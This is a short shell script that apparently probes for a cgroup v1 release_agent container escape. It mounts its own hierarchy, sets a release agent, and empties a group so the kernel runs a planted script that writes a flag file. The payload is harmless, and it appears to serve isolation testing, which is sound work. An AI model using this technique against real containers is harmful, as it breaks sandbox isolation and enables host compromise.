#!/bin/sh
# Have the kernel start a program of ours outside, when a group of a hierarchy of our own is empty.
# release_agent.sh OUTPUT
place=$(mktemp -d) && mount -t cgroup -o none,name=keyhatch-escape-$$ none "$place" || exit 1
printf '#!/bin/sh\necho %s >>%s\n' "$ESCAPE_FLAG" "$1" >"$PWD/released.sh"
chmod 755 "$PWD/released.sh"
mkdir "$place/group"
echo 1 >"$place/group/notify_on_release"
echo "$PWD/released.sh" >"$place/release_agent"
sh -c "echo \$\$ >'$place/group/cgroup.procs'"
sleep 0.5
rmdir "$place/group"
umount "$place"
rmdir "$place"
exit 1
